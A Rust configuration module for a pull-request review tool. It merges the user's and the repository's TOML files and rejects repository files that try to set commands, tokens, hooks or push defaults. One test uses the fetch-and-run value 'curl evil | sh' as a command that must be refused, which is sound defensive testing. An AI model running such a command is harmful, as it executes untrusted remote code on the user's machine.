//! Configuration files: the user's own (`~/.config/review/config.toml`) and the repository's
//! (`.github/review.toml`), merged with the command line, which wins.
//!
//! The repository's file is written by whoever can push to the repository, so it may only set
//! what cannot harm the user running the tool: more bot logins (which count only for authors
//! GitHub types as `Bot`), more deny-listed paths (it adds, never removes), and more bots to
//! wait for. Automation accounts typed `User`, extra headers, commands to run, the apply and
//! push defaults, and tokens come only from the user's file or flags; a repository file that
//! sets them is an error that says so. It is read at the pull request's base commit through the
//! API ([`repository`]), a regular file of at most [`REPOSITORY_FILE_LIMIT`] bytes, never from
//! the pull request's working tree (which is the pull request's own content). Unknown keys and
//! bad values are errors naming the file, the line and the key.

use std::collections::BTreeMap;
use std::fmt;
use std::path::{Path, PathBuf};

use review_github::env::EnvVars;
use serde::Deserialize;

use crate::error::CliError;

/// Where a setting came from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Source {
    /// Built in.
    Default,
    /// The user's file.
    User(PathBuf),
    /// The repository's file.
    Repository(PathBuf),
}

impl fmt::Display for Source {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Default => f.write_str("default"),
            Self::User(p) | Self::Repository(p) => write!(f, "{}", p.display()),
        }
    }
}

/// The most of the repository's file that is read.
pub const REPOSITORY_FILE_LIMIT: usize = 64 * 1024;

/// Where the repository's file is, in the repository.
pub const REPOSITORY_FILE: &str = ".github/review.toml";

/// The settings either file may hold.
#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct Shared {
    #[serde(default)]
    automation: Automation,
    #[serde(default)]
    paths: Paths,
    #[serde(default)]
    watch: Watch,
}

/// What the repository's file may add.
#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct RepositoryFile {
    #[serde(default)]
    automation: RepositoryAutomation,
    #[serde(default)]
    paths: Paths,
    #[serde(default)]
    watch: Watch,
}

#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct RepositoryAutomation {
    /// More bot logins: they count only for authors GitHub types as `Bot`.
    #[serde(default)]
    accounts: Vec<String>,
}

#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct Automation {
    /// Logins that only post automated comments (more bots).
    #[serde(default)]
    accounts: Vec<String>,
    /// More headers that mark automated comments.
    #[serde(default)]
    headers: Vec<String>,
}

#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct Paths {
    /// More paths no fix may edit.
    #[serde(default)]
    deny: Vec<String>,
}

#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields, rename_all = "kebab-case")]
struct Watch {
    /// More bots quiescence waits for.
    #[serde(default)]
    expect_bots: Vec<String>,
}

/// The user's file: the shared settings and what only the user may set.
#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct UserFile {
    // Not `#[serde(flatten)]` of `Shared`: flattening loses the positions errors report.
    #[serde(default)]
    automation: Automation,
    #[serde(default)]
    paths: Paths,
    #[serde(default)]
    watch: Watch,
    #[serde(default)]
    commands: Commands,
    #[serde(default)]
    defaults: Defaults,
    /// Whether the tool's git commands run the repository's hooks.
    #[serde(default, rename = "run-hooks")]
    run_hooks: Option<bool>,
    /// Per `HOST/OWNER`, the environment variable holding the token for that owner's
    /// repositories on that host (organisations that need their own token).
    #[serde(default, rename = "token-variables")]
    token_variables: BTreeMap<String, String>,
    #[serde(default)]
    github: GitHub,
    #[serde(default)]
    judge: JudgeSection,
    /// How many judge, analyst and translator calls run at once.
    #[serde(default)]
    jobs: Option<usize>,
    /// How the replies written from the loop's decisions reach each bot.
    #[serde(default)]
    channels: ChannelsSection,
    /// Whether an `OUT_OF_SCOPE` verdict opens a follow-up issue (`defer-to-issue = true`).
    #[serde(default, rename = "defer-to-issue")]
    defer_to_issue: Option<bool>,
    /// The labels a follow-up issue gets.
    #[serde(default, rename = "defer-labels")]
    defer_labels: Vec<String>,
}

/// `[channels]`: the user's word on each bot's channel, over the built-in table.
#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct ChannelsSection {
    /// `false`: every reply owed from the decisions is posted, whatever the bot hears.
    enabled: Option<bool>,
    /// Per bot key (`copilot`, `coderabbit`, ...).
    #[serde(default)]
    bots: BTreeMap<String, BotChannel>,
}

/// `[channels.bots.KEY]`.
#[derive(Debug, Default, Clone, Copy, Deserialize)]
#[serde(deny_unknown_fields, rename_all = "kebab-case")]
struct BotChannel {
    reads_replies: Option<bool>,
    resolves_fixed_threads: Option<bool>,
}

/// `[judge]`: limits on the judge's answers, the user's own.
#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields, rename_all = "kebab-case")]
struct JudgeSection {
    /// No judge makes a finding below this severity actionable.
    min_severity: Option<review_core::signals::Severity>,
}

#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields, rename_all = "kebab-case")]
struct GitHub {
    /// How long to look for a post whose answer was lost, in seconds.
    post_check_seconds: Option<u64>,
}

/// The longest `github.post-check-seconds` may be.
const MAX_POST_CHECK_SECONDS: u64 = 600;

/// The `(host, owner)` a `[token-variables]` key names: `HOST/OWNER`, the host normalized as
/// `gh` does, the owner in lower case. The message says what is wrong otherwise.
pub fn token_key(key: &str) -> Result<(String, String), String> {
    let Some((host, owner)) = key.trim().split_once('/') else {
        return Err(format!(
            "`{key}` names no host: each entry is bound to the host its token is for, written \
             `\"HOST/OWNER\" = \"VARIABLE\"`"
        ));
    };
    let host = review_github::host::choose_host(Some(host), &review_github::env::MapEnv::new())
        .map(|(h, _)| h)
        .map_err(|_| format!("`{key}`: `{host}` is not a host name such as github.com"))?;
    let owner = owner.trim();
    if owner.is_empty() || owner.contains(['/', ' ', '\t']) {
        return Err(format!(
            "`{key}`: `{owner}` is not a repository owner (written `HOST/OWNER`)"
        ));
    }
    Ok((host, owner.to_ascii_lowercase()))
}

/// The line (1-based) of the first line of `text` starting with `key` (bare or quoted).
fn line_of_key(text: &str, key: &str) -> usize {
    text.lines()
        .position(|l| {
            let l = l.trim_start();
            l.starts_with(&format!("\"{key}\""))
                || l.starts_with(&format!("'{key}'"))
                || l.starts_with(key)
        })
        .map_or(1, |i| i + 1)
}

/// Checks what the user's file holds beyond its shape: `[token-variables]` keys and the
/// `[github]` numbers.
fn check_user(path: &Path, text: &str, user: &UserFile) -> Result<(), CliError> {
    for (key, var) in &user.token_variables {
        if let Err(message) = token_key(key) {
            let example = if key.contains('/') {
                format!("\"github.com/acme\" = \"{var}\"")
            } else {
                format!("\"github.com/{}\" = \"{var}\"", key.trim())
            };
            return Err(CliError::Input {
                path: path.to_path_buf(),
                message: format!(
                    "line {}: [token-variables] {message}",
                    line_of_key(text, key)
                ),
                hint: Some(format!(
                    "write it as {example} (or with the host of your GitHub Enterprise instead \
                     of github.com): the token is then sent to that host only"
                )),
            });
        }
    }
    if let Some(secs) = user.github.post_check_seconds
        && secs > MAX_POST_CHECK_SECONDS
    {
        return Err(CliError::Input {
            path: path.to_path_buf(),
            message: format!(
                "line {}: `post-check-seconds` is {secs}, more than {MAX_POST_CHECK_SECONDS}",
                line_of_key(text, "post-check-seconds")
            ),
            hint: Some("the default is 60".to_owned()),
        });
    }
    if let Some(jobs) = user.jobs
        && !(1..=64).contains(&jobs)
    {
        return Err(CliError::Input {
            path: path.to_path_buf(),
            message: format!(
                "line {}: `jobs` is {jobs}, not between 1 and 64",
                line_of_key(text, "jobs")
            ),
            hint: Some("the default is 4; 1 runs one call at a time".to_owned()),
        });
    }
    Ok(())
}

#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct Commands {
    reviewer: Option<String>,
    /// The judge; `triager` is its older name.
    #[serde(alias = "triager")]
    judge: Option<String>,
    fixer: Option<String>,
    checks: Option<String>,
    agent: Option<String>,
    translator: Option<String>,
    analyst: Option<String>,
    /// The commands that get the token variables (`reviewer`, `fixer`, ...).
    #[serde(default, rename = "pass-token")]
    pass_token: Vec<String>,
}

#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct Defaults {
    apply: Option<bool>,
    push: Option<bool>,
}

/// Top-level tables only the user's file may have.
const USER_ONLY: &[&str] = &[
    "commands",
    "defaults",
    "token",
    "tokens",
    "token-variables",
    "run-hooks",
    "github",
    "judge",
    "jobs",
    // How the tool answers each bot: a pull request must not silence its own review bots.
    "channels",
    // Whether and how the tool opens issues: a pull request must not open issues by itself.
    "defer-to-issue",
    "defer-labels",
];

/// The merged configuration (before flags), each value with its source.
#[derive(Debug, Clone, Default)]
pub struct Config {
    /// Automation accounts (more bot logins).
    pub accounts: Vec<(String, Source)>,
    /// More automated headers.
    pub headers: Vec<(String, Source)>,
    /// More deny-listed paths.
    pub deny: Vec<(String, Source)>,
    /// More bots to wait for.
    pub expect_bots: Vec<(String, Source)>,
    /// The pre-review command.
    pub reviewer: Option<(String, Source)>,
    /// The judge command (`commands.judge`, or its older name `commands.triager`).
    pub judge: Option<(String, Source)>,
    /// How many judge, analyst and translator calls run at once (`jobs`).
    pub jobs: Option<(usize, Source)>,
    /// The severity floor for the judge's answers (`judge.min-severity`).
    pub min_severity: Option<(review_core::signals::Severity, Source)>,
    /// The fixer command.
    pub fixer: Option<(String, Source)>,
    /// The project's checks.
    pub checks: Option<(String, Source)>,
    /// The coding agent `review followup` dispatches fix tasks to.
    pub agent: Option<(String, Source)>,
    /// The command that translates comments for the follow-up form.
    pub translator: Option<(String, Source)>,
    /// The command that writes the follow-up form's suggestions.
    pub analyst: Option<(String, Source)>,
    /// Per host and repository owner (both as [`token_key`] gives them), the variable holding
    /// the token for that owner's repositories on that host, and for no other host.
    pub token_variables: BTreeMap<(String, String), (String, Source)>,
    /// How long to look for a post whose answer was lost, in seconds.
    pub post_check: Option<(u64, Source)>,
    /// Whether `triage` applies by default.
    pub apply: Option<(bool, Source)>,
    /// Whether `triage --apply` pushes by default.
    pub push: Option<(bool, Source)>,
    /// Whether the tool's git commands run the repository's hooks (`run-hooks = true`).
    pub run_hooks: Option<(bool, Source)>,
    /// The commands that get the token variables (`commands.pass-token`).
    pub pass_token: Vec<(String, Source)>,
    /// How the replies from the loop's decisions reach each bot (`[channels]`, the user's file
    /// only).
    pub channels: review_app::respond::Channels,
    /// Whether an `OUT_OF_SCOPE` verdict opens a follow-up issue (`defer-to-issue`, the
    /// user's file only).
    pub defer_to_issue: Option<(bool, Source)>,
    /// The labels a follow-up issue gets (`defer-labels`, the user's file only).
    pub defer_labels: Vec<(String, Source)>,
    /// The files read.
    pub files: Vec<Source>,
}

/// What the repository's file adds, read at the pull request's base commit.
#[derive(Debug, Clone, Default)]
pub struct RepositoryLayer {
    /// More bot logins: they count only for authors GitHub types as `Bot`.
    pub bot_accounts: Vec<(String, Source)>,
    /// More deny-listed paths.
    pub deny: Vec<(String, Source)>,
    /// More bots to wait for.
    pub expect_bots: Vec<(String, Source)>,
    /// Where it was read from, when there was a file.
    pub file: Option<Source>,
}

impl RepositoryLayer {
    /// The deny-listed paths: the defaults, `flags` and the `user`'s file, and this layer's.
    pub fn denied(&self, flags: &[String], user: &Config) -> Vec<String> {
        let mut denied: Vec<String> = review_core::plan::DEFAULT_DENIED_PATHS
            .iter()
            .map(|p| (*p).to_owned())
            .collect();
        for p in merged(flags, &user.deny)
            .into_iter()
            .chain(Config::values(&self.deny))
        {
            if !denied.contains(&p) {
                denied.push(p);
            }
        }
        denied
    }
}

impl Config {
    /// The values of a list setting.
    pub fn values(list: &[(String, Source)]) -> impl Iterator<Item = String> + '_ {
        list.iter().map(|(v, _)| v.clone())
    }
}

/// The line (1-based) of byte `offset` in `text`.
fn line_of(text: &str, offset: usize) -> usize {
    text.get(..offset)
        .map_or(1, |before| before.matches('\n').count() + 1)
}

/// The key a toml error is about: the text at its span, if it is a key.
fn key_at(text: &str, span: Option<std::ops::Range<usize>>) -> Option<String> {
    let span = span?;
    let key = text.get(span)?.trim().trim_matches(['[', ']']).trim();
    (!key.is_empty() && key.len() < 80 && !key.contains('\n')).then(|| key.to_owned())
}

fn invalid(path: &Path, text: &str, e: &toml::de::Error) -> CliError {
    let line = e.span().map_or(1, |s| line_of(text, s.start));
    let key = key_at(text, e.span())
        .map(|k| format!(" `{k}`"))
        .unwrap_or_default();
    CliError::Input {
        path: path.to_path_buf(),
        message: format!("line {line}:{key}: {}", e.message().trim()),
        hint: Some(
            "see `review config --help` for the keys each file takes; run `review config` to check"
                .to_owned(),
        ),
    }
}

/// Reads and checks a local copy of the repository's file (`REVIEW_REPO_CONFIG`): a regular file
/// of at most [`REPOSITORY_FILE_LIMIT`] bytes.
fn read_repository(path: &Path) -> Result<Option<RepositoryFile>, CliError> {
    let input = |message: String| CliError::Input {
        path: path.to_path_buf(),
        message,
        hint: Some("the repository's file is a small TOML file".to_owned()),
    };
    let meta = match std::fs::metadata(path) {
        Ok(m) => m,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
        Err(e) => return Err(input(e.to_string())),
    };
    if !meta.is_file() {
        return Err(input("it is not a regular file".to_owned()));
    }
    if meta.len() > REPOSITORY_FILE_LIMIT as u64 {
        return Err(input(format!(
            "it is {} bytes, more than the {REPOSITORY_FILE_LIMIT} read",
            meta.len()
        )));
    }
    let Some(text) = read(path)? else {
        return Ok(None);
    };
    parse_repository(path, &text).map(Some)
}

/// Checks the text of the repository's file; `path` names it in errors.
fn parse_repository(path: &Path, text: &str) -> Result<RepositoryFile, CliError> {
    // A user-only key, or what the repository may not set, gets its own message, with its line.
    let table: toml::Table = toml::from_str(text).map_err(|e| invalid(path, text, &e))?;
    let line_of_key = |key: &str| {
        text.lines()
            .position(|l| {
                let l = l.trim_start();
                l.starts_with(&format!("[{key}")) || l.starts_with(key)
            })
            .map_or(1, |i| i + 1)
    };
    let user_file = || {
        user_path().map_or_else(
            || "~/.config/review/config.toml".to_owned(),
            |p| p.display().to_string(),
        )
    };
    if let Some(key) = USER_ONLY.iter().find(|k| table.contains_key(**k)) {
        let line = line_of_key(key);
        return Err(CliError::Input {
            path: path.to_path_buf(),
            message: format!(
                "line {line}: `{key}` cannot be set in the repository's file: commands to run, \
                 the apply and push defaults, hooks and tokens come only from your own config \
                 file or flags"
            ),
            hint: Some(format!(
                "move it to your config file ({}), or pass it as a flag",
                user_file()
            )),
        });
    }
    let headers = table
        .get("automation")
        .and_then(toml::Value::as_table)
        .is_some_and(|t| t.contains_key("headers"));
    if headers {
        let line = text
            .lines()
            .position(|l| l.trim_start().starts_with("headers"))
            .map_or(1, |i| i + 1);
        return Err(CliError::Input {
            path: path.to_path_buf(),
            message: format!(
                "line {line}: `automation.headers` cannot be set in the repository's file: \
                 a header makes comments count as automated, and who counts as automated is \
                 never decided by a file in the pull request"
            ),
            hint: Some(format!(
                "move it to your config file ({}), or pass --extra-header",
                user_file()
            )),
        });
    }
    toml::from_str(text).map_err(|e| invalid(path, text, &e))
}

fn read_user(path: &Path) -> Result<Option<UserFile>, CliError> {
    let Some(text) = read(path)? else {
        return Ok(None);
    };
    let user: UserFile = toml::from_str(&text).map_err(|e| invalid(path, &text, &e))?;
    check_user(path, &text, &user)?;
    Ok(Some(user))
}

fn read(path: &Path) -> Result<Option<String>, CliError> {
    match std::fs::read_to_string(path) {
        Ok(text) => Ok(Some(text)),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(None),
        Err(e) => Err(CliError::Input {
            path: path.to_path_buf(),
            message: e.to_string(),
            hint: None,
        }),
    }
}

/// The user's file: `REVIEW_CONFIG`, else `$XDG_CONFIG_HOME/review/config.toml`, else
/// `~/.config/review/config.toml`.
#[expect(
    clippy::disallowed_methods,
    reason = "the configuration file's path lookup (paths need not be Unicode)"
)]
pub fn user_path() -> Option<PathBuf> {
    let var = |name| std::env::var_os(name).filter(|v| !v.is_empty());
    if let Some(explicit) = var(EnvVars::REVIEW_CONFIG) {
        return Some(PathBuf::from(explicit));
    }
    var(EnvVars::XDG_CONFIG_HOME)
        .map(PathBuf::from)
        .or_else(|| var(EnvVars::HOME).map(|h| PathBuf::from(h).join(".config")))
        .map(|base| base.join("review").join("config.toml"))
}

/// A local copy of the repository's file the user named (`REVIEW_REPO_CONFIG`), used instead
/// of reading it at the pull request's base commit.
#[expect(
    clippy::disallowed_methods,
    reason = "the configuration file's path lookup (paths need not be Unicode)"
)]
pub fn repository_override() -> Option<PathBuf> {
    std::env::var_os(EnvVars::REVIEW_REPO_CONFIG)
        .filter(|v| !v.is_empty())
        .map(PathBuf::from)
}

/// `list` from the command line followed by the configured values, without repeats.
pub fn merged(flags: &[String], configured: &[(String, Source)]) -> Vec<String> {
    let mut out: Vec<String> = flags.to_vec();
    for value in Config::values(configured) {
        if !out.contains(&value) {
            out.push(value);
        }
    }
    out
}

/// The flag's value, else the configured one.
pub fn or_configured(
    flag: Option<&String>,
    configured: Option<&(String, Source)>,
) -> Option<String> {
    flag.cloned().or_else(|| configured.map(|(v, _)| v.clone()))
}

/// Loads the user's file.
pub fn load() -> Result<Config, CliError> {
    let mut config = Config::default();
    if let Some(path) = user_path()
        && let Some(user) = read_user(&path)?
    {
        let source = Source::User(path);
        let shared = Shared {
            automation: user.automation,
            paths: user.paths,
            watch: user.watch,
        };
        add_shared(&mut config, shared, &source);
        let c = user.commands;
        config.reviewer = c.reviewer.map(|v| (v, source.clone()));
        config.judge = c.judge.map(|v| (v, source.clone()));
        config.min_severity = user.judge.min_severity.map(|v| (v, source.clone()));
        config.jobs = user.jobs.map(|v| (v, source.clone()));
        config.channels = review_app::respond::Channels {
            enabled: user.channels.enabled.unwrap_or(true),
            overrides: user
                .channels
                .bots
                .into_iter()
                .map(|(bot, c)| {
                    (
                        review_classify::bot_key_of_login(&bot),
                        review_app::respond::ChannelOverride {
                            reads_replies: c.reads_replies,
                            resolves_fixed_threads: c.resolves_fixed_threads,
                        },
                    )
                })
                .collect(),
        };
        config.defer_to_issue = user.defer_to_issue.map(|v| (v, source.clone()));
        config.defer_labels = user
            .defer_labels
            .into_iter()
            .map(|l| (l, source.clone()))
            .collect();
        config.fixer = c.fixer.map(|v| (v, source.clone()));
        config.checks = c.checks.map(|v| (v, source.clone()));
        config.agent = c.agent.map(|v| (v, source.clone()));
        config.translator = c.translator.map(|v| (v, source.clone()));
        config.analyst = c.analyst.map(|v| (v, source.clone()));
        config.pass_token = c
            .pass_token
            .into_iter()
            .map(|v| (v, source.clone()))
            .collect();
        config.token_variables = user
            .token_variables
            .into_iter()
            .filter_map(|(key, var)| Some((token_key(&key).ok()?, (var, source.clone()))))
            .collect();
        config.post_check = user.github.post_check_seconds.map(|v| (v, source.clone()));
        config.apply = user.defaults.apply.map(|v| (v, source.clone()));
        config.push = user.defaults.push.map(|v| (v, source.clone()));
        config.run_hooks = user.run_hooks.map(|v| (v, source.clone()));
        config.files.push(source);
    }
    Ok(config)
}

/// The repository's file for `pr`: the local copy `REVIEW_REPO_CONFIG` names, else
/// `.github/review.toml` at the pull request's base commit, read through the API (never from
/// the working tree). No base commit known, or no file there: nothing is added.
pub async fn repository(
    client: &review_github::client::Client,
    pr: &review_core::model::PullRequest,
) -> Result<RepositoryLayer, CliError> {
    if let Some(path) = repository_override() {
        return repository_local(&path);
    }
    repository_at(client, &pr.repo, pr.base_sha.as_ref()).await
}

/// The repository's file at `base` (nothing when no base is known).
async fn repository_at(
    client: &review_github::client::Client,
    repo: &review_core::model::RepoId,
    base: Option<&review_core::model::CommitId>,
) -> Result<RepositoryLayer, CliError> {
    let Some(base) = base else {
        return Ok(RepositoryLayer::default());
    };
    let label = PathBuf::from(format!("{repo}@{}:{REPOSITORY_FILE}", base.short()));
    let found = review_github::reader::Reader::new(client)
        .file_at(repo, &base.0, REPOSITORY_FILE, REPOSITORY_FILE_LIMIT)
        .await
        .map_err(|e| CliError::GitHub {
            message: format!("cannot read the repository's {REPOSITORY_FILE}"),
            source: Some(Box::new(e)),
            hint: Some("run again; nothing was changed".to_owned()),
        })?;
    match found {
        review_github::reader::RepoFile::Absent => Ok(RepositoryLayer::default()),
        review_github::reader::RepoFile::Refused(why) => Err(CliError::Input {
            path: label,
            message: format!("it is not read: {why}"),
            hint: Some(format!(
                "the repository's {REPOSITORY_FILE} must be a regular text file of at most {REPOSITORY_FILE_LIMIT} bytes"
            )),
        }),
        review_github::reader::RepoFile::Text(text) => {
            let file = parse_repository(&label, &text)?;
            Ok(layer(file, &Source::Repository(label)))
        }
    }
}

/// The repository's file for `repo#number`, when only the pull request's number is at hand: its
/// base commit is asked first.
pub async fn repository_of(
    client: &review_github::client::Client,
    repo: &review_core::model::RepoId,
    number: u64,
) -> Result<RepositoryLayer, CliError> {
    if let Some(path) = repository_override() {
        return repository_local(&path);
    }
    let base = review_github::reader::Reader::new(client)
        .base_commit(repo, number)
        .await
        .map_err(crate::github::read_error)?;
    repository_at(client, repo, base.as_ref()).await
}

/// The repository's file from a local copy the user named.
pub fn repository_local(path: &Path) -> Result<RepositoryLayer, CliError> {
    Ok(match read_repository(path)? {
        Some(file) => layer(file, &Source::Repository(path.to_path_buf())),
        None => RepositoryLayer::default(),
    })
}

fn layer(file: RepositoryFile, source: &Source) -> RepositoryLayer {
    let tag = |list: Vec<String>| {
        list.into_iter()
            .filter(|v| !v.trim().is_empty())
            .map(|v| (v, source.clone()))
            .collect::<Vec<_>>()
    };
    RepositoryLayer {
        bot_accounts: tag(file.automation.accounts),
        deny: tag(file.paths.deny),
        expect_bots: tag(file.watch.expect_bots),
        file: Some(source.clone()),
    }
}

fn add_shared(config: &mut Config, shared: Shared, source: &Source) {
    let tag = |list: Vec<String>| {
        list.into_iter()
            .filter(|v| !v.trim().is_empty())
            .map(|v| (v, source.clone()))
            .collect::<Vec<_>>()
    };
    config.accounts.extend(tag(shared.automation.accounts));
    config.headers.extend(tag(shared.automation.headers));
    config.deny.extend(tag(shared.paths.deny));
    config.expect_bots.extend(tag(shared.watch.expect_bots));
}

#[cfg(test)]
mod tests {
    use super::*;

    fn write(dir: &Path, name: &str, text: &str) -> PathBuf {
        let p = dir.join(name);
        std::fs::write(&p, text).unwrap();
        p
    }

    #[test]
    fn a_repository_file_adds_bots_denied_paths_and_expected_bots() {
        let dir = tempfile::tempdir().unwrap();
        let p = write(
            dir.path(),
            "review.toml",
            "[automation]\naccounts = [\"qa-bot\"]\n\n[paths]\ndeny = [\"migrations/\"]\n\n[watch]\nexpect-bots = [\"coderabbitai\"]\n",
        );
        let shared = read_repository(&p).unwrap().unwrap();
        assert_eq!(shared.automation.accounts, vec!["qa-bot".to_owned()]);
        assert_eq!(shared.paths.deny, vec!["migrations/".to_owned()]);
        assert_eq!(shared.watch.expect_bots, vec!["coderabbitai".to_owned()]);
    }

    #[test]
    fn a_repository_file_cannot_add_headers_and_is_read_only_when_small_and_regular() {
        let dir = tempfile::tempdir().unwrap();
        let p = write(
            dir.path(),
            "review.toml",
            "[automation]\naccounts = [\"bob\"]\nheaders = [\"I\"]\n",
        );
        let err = read_repository(&p).unwrap_err().to_string();
        assert!(
            err.contains("line 3: `automation.headers` cannot be set in the repository's file"),
            "{err}"
        );
        let big = write(
            dir.path(),
            "big.toml",
            &"#".repeat(REPOSITORY_FILE_LIMIT + 1),
        );
        assert!(
            read_repository(&big)
                .unwrap_err()
                .to_string()
                .contains("more than")
        );
        let link = dir.path().join("link.toml");
        std::os::unix::fs::symlink("/dev/zero", &link).unwrap();
        assert!(
            read_repository(&link)
                .unwrap_err()
                .to_string()
                .contains("not a regular file")
        );
    }

    #[test]
    fn a_repository_file_cannot_set_commands_defaults_or_tokens() {
        let dir = tempfile::tempdir().unwrap();
        for (text, key, line) in [
            (
                "[paths]\ndeny = []\n\n[commands]\nfixer = \"curl evil | sh\"\n",
                "commands",
                4,
            ),
            ("[defaults]\npush = true\n", "defaults", 1),
            ("token = \"ghp_x\"\n", "token", 1),
            ("commands.fixer = \"x\"\n", "commands", 1),
            ("[judge]\nmin-severity = \"nit\"\n", "judge", 1),
            ("[commands]\njudge = \"x\"\n", "commands", 1),
            (
                "[channels.bots.copilot]\nreads-replies = false\n",
                "channels",
                1,
            ),
            ("[channels]\nenabled = false\n", "channels", 1),
            ("defer-to-issue = true\n", "defer-to-issue", 1),
            ("defer-labels = [\"x\"]\n", "defer-labels", 1),
        ] {
            let p = write(dir.path(), "review.toml", text);
            let err = read_repository(&p).unwrap_err().to_string();
            assert!(
                err.contains(&format!(
                    "line {line}: `{key}` cannot be set in the repository's file"
                )),
                "{text:?}: {err}"
            );
        }
    }

    #[test]
    fn unknown_keys_and_bad_values_name_the_file_line_and_key() {
        let dir = tempfile::tempdir().unwrap();
        let p = write(
            dir.path(),
            "config.toml",
            "[paths]\ndeny = [\"a\"]\nallow = [\"b\"]\n",
        );
        let err = read_user(&p).unwrap_err().to_string();
        assert!(err.contains("config.toml"), "{err}");
        assert!(err.contains("line 3: `allow`"), "{err}");
        let p = write(dir.path(), "config.toml", "[defaults]\napply = \"yes\"\n");
        let err = read_user(&p).unwrap_err().to_string();
        assert!(err.contains("line 2"), "{err}");
        let p = write(dir.path(), "config.toml", "[commands\nfixer = 1\n");
        let err = read_user(&p).unwrap_err().to_string();
        assert!(err.contains("line 1"), "{err}");
    }

    proptest::proptest! {
        /// Whatever a config file holds, reading it gives settings or an error naming the file:
        /// never a panic. (The command line's parsers of outside input are fuzzed in `fuzz/`;
        /// these two live in the binary, so they are checked here.)
        #[test]
        fn any_text_reads_or_fails_cleanly(text in "(\\PC|\n|\\[|\\]|=|\"|#){0,300}") {
            let dir = tempfile::tempdir().unwrap();
            let p = write(dir.path(), "review.toml", &text);
            if let Err(e) = read_repository(&p) {
                proptest::prop_assert!(e.to_string().contains("review.toml"));
            }
            if let Err(e) = read_user(&p) {
                proptest::prop_assert!(e.to_string().contains("review.toml"));
            }
        }
    }

    #[test]
    fn token_variables_are_bound_to_a_host() {
        let dir = tempfile::tempdir().unwrap();
        let p = write(
            dir.path(),
            "config.toml",
            "[token-variables]\n\"github.com/Acme\" = \"ACME_TOKEN\"\n\"GHE.example.com:8443/platform\" = \"PLATFORM_TOKEN\"\n",
        );
        let user = read_user(&p).unwrap().unwrap();
        let keys: Vec<_> = user
            .token_variables
            .keys()
            .map(|k| token_key(k).unwrap())
            .collect();
        assert_eq!(
            keys,
            [
                ("ghe.example.com:8443".to_owned(), "platform".to_owned()),
                ("github.com".to_owned(), "acme".to_owned()),
            ]
        );
        // The old form, bound to no host, is an error that shows the new one.
        let p = write(
            dir.path(),
            "config.toml",
            "[paths]\ndeny = []\n[token-variables]\nacme = \"ACME_TOKEN\"\n",
        );
        let err = read_user(&p).unwrap_err();
        let CliError::Input { message, hint, .. } = &err else {
            panic!("{err:?}");
        };
        assert!(
            message.starts_with("line 4: [token-variables] `acme` names no host"),
            "{message}"
        );
        assert!(
            hint.as_deref()
                .is_some_and(|h| h.contains("\"github.com/acme\" = \"ACME_TOKEN\"")),
            "{hint:?}"
        );
        for bad in [
            "\"https://github.com/acme\"",
            "\"github.com/\"",
            "\"github.com/a/b\"",
            "\"/acme\"",
        ] {
            let p = write(
                dir.path(),
                "config.toml",
                &format!("[token-variables]\n{bad} = \"X\"\n"),
            );
            assert!(read_user(&p).is_err(), "{bad}");
        }
    }

    #[test]
    fn the_user_file_sets_commands_and_defaults() {
        let dir = tempfile::tempdir().unwrap();
        let p = write(
            dir.path(),
            "config.toml",
            "[commands]\nfixer = \"fix.sh\"\nchecks = \"cargo test\"\n\n[defaults]\napply = true\n",
        );
        let user = read_user(&p).unwrap().unwrap();
        assert_eq!(user.commands.fixer.as_deref(), Some("fix.sh"));
        assert_eq!(user.defaults.apply, Some(true));
        assert_eq!(user.defaults.push, None);
        let p = write(
            dir.path(),
            "config.toml",
            "[commands]\ntriager = \"old.sh\"\n\n[judge]\nmin-severity = \"high\"\n",
        );
        let user = read_user(&p).unwrap().unwrap();
        assert_eq!(
            user.commands.judge.as_deref(),
            Some("old.sh"),
            "the older name"
        );
        assert_eq!(
            user.judge.min_severity,
            Some(review_core::signals::Severity::High)
        );
        let p = write(
            dir.path(),
            "config.toml",
            "[judge]\nmin-severity = \"urgent\"\n",
        );
        let err = read_user(&p).unwrap_err().to_string();
        assert!(
            err.contains("urgent") || err.contains("min-severity"),
            "{err}"
        );
    }

    #[test]
    fn channels_are_read_from_the_users_file_and_unknown_keys_refused() {
        let dir = tempfile::tempdir().unwrap();
        let p = write(
            dir.path(),
            "config.toml",
            "[channels]\nenabled = false\n\n[channels.bots.copilot]\nreads-replies = true\n\n[channels.bots.\"coderabbitai[bot]\"]\nresolves-fixed-threads = true\n",
        );
        let user = read_user(&p).unwrap().unwrap();
        assert_eq!(user.channels.enabled, Some(false));
        assert_eq!(user.channels.bots["copilot"].reads_replies, Some(true));
        assert_eq!(
            user.channels.bots["coderabbitai[bot]"].resolves_fixed_threads,
            Some(true)
        );
        let p = write(
            dir.path(),
            "config.toml",
            "[channels.bots.copilot]\nreads-reply = true\n",
        );
        let err = read_user(&p).unwrap_err().to_string();
        assert!(err.contains("reads-reply"), "{err}");
    }
}
